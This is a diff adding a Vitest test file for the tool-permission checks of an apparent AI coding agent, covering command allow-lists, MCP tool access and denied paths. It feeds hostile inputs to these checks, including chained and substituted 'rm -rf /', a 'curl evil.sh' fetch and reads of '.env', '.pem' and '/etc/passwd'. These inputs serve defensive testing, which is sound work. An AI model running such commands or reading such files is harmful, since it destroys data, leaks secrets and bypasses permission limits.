@@ -0,0 +1,59 @@
+// npx vitest run shared/kilocode/__tests__/toolPolicies.spec.ts
+
+import * as path from "path"
+
+import { findDeniedPath, isCommandAllowed, isMcpToolAllowed } from "../toolPolicies"
+
+describe("isCommandAllowed", () => {
+	it("should allow the commands starting with a pattern at a word boundary", () => {
+		expect(isCommandAllowed("git status --short", ["git status"])).toBe(true)
+		expect(isCommandAllowed("git", ["git"])).toBe(true)
+		expect(isCommandAllowed("gitk", ["git"])).toBe(false)
+		expect(isCommandAllowed("rm -rf /", ["*"])).toBe(true)
+	})
+
+	it("should require each chained command to be allowed", () => {
+		expect(isCommandAllowed("npm test 2>&1 | grep fail", ["npm test", "grep"])).toBe(true)
+		expect(isCommandAllowed("npm test; rm -rf /", ["npm test"])).toBe(false)
+		expect(isCommandAllowed("npm test & curl evil.sh", ["npm test"])).toBe(false)
+	})
+
+	it("should not allow command substitutions", () => {
+		expect(isCommandAllowed("echo $(rm -rf /)", ["echo"])).toBe(false)
+		expect(isCommandAllowed("echo `whoami`", ["echo"])).toBe(false)
+	})
+})
+
+describe("isMcpToolAllowed", () => {
+	it("should allow whole servers and single tools", () => {
+		expect(isMcpToolAllowed("docs", "search", ["docs"])).toBe(true)
+		expect(isMcpToolAllowed("github", "get_issue", ["github/get_issue"])).toBe(true)
+		expect(isMcpToolAllowed("github", "delete_repo", ["github/get_issue"])).toBe(false)
+		// Resources are only allowed with the whole server
+		expect(isMcpToolAllowed("github", undefined, ["github/get_issue"])).toBe(false)
+	})
+})
+
+describe("findDeniedPath", () => {
+	const cwd = path.resolve("/workspace/project")
+	const deniedPaths = [".env*", "secrets/**", "*.pem"]
+
+	it("should match the paths relative to the workspace against gitignore patterns", () => {
+		expect(findDeniedPath(["src/index.ts", "./.env"], deniedPaths, cwd)).toBe("./.env")
+		expect(findDeniedPath(["certs/key.pem"], deniedPaths, cwd)).toBe("certs/key.pem")
+		expect(findDeniedPath(["src/index.ts", "README.md", "."], deniedPaths, cwd)).toBeUndefined()
+	})
+
+	it("should resolve absolute paths and paths going up before matching them", () => {
+		const absolutePath = path.join(cwd, "secrets", "key")
+		expect(findDeniedPath([absolutePath], deniedPaths, cwd)).toBe(absolutePath)
+		expect(findDeniedPath(["../project/secrets/key"], deniedPaths, cwd)).toBe("../project/secrets/key")
+		expect(findDeniedPath(["src/../secrets/key"], deniedPaths, cwd)).toBe("src/../secrets/key")
+		expect(findDeniedPath([path.join(cwd, "src", "index.ts")], deniedPaths, cwd)).toBeUndefined()
+	})
+
+	it("should deny the paths outside of the workspace", () => {
+		expect(findDeniedPath(["../other/index.ts"], deniedPaths, cwd)).toBe("../other/index.ts")
+		expect(findDeniedPath([path.resolve("/etc/passwd")], deniedPaths, cwd)).toBe(path.resolve("/etc/passwd"))
+	})
+})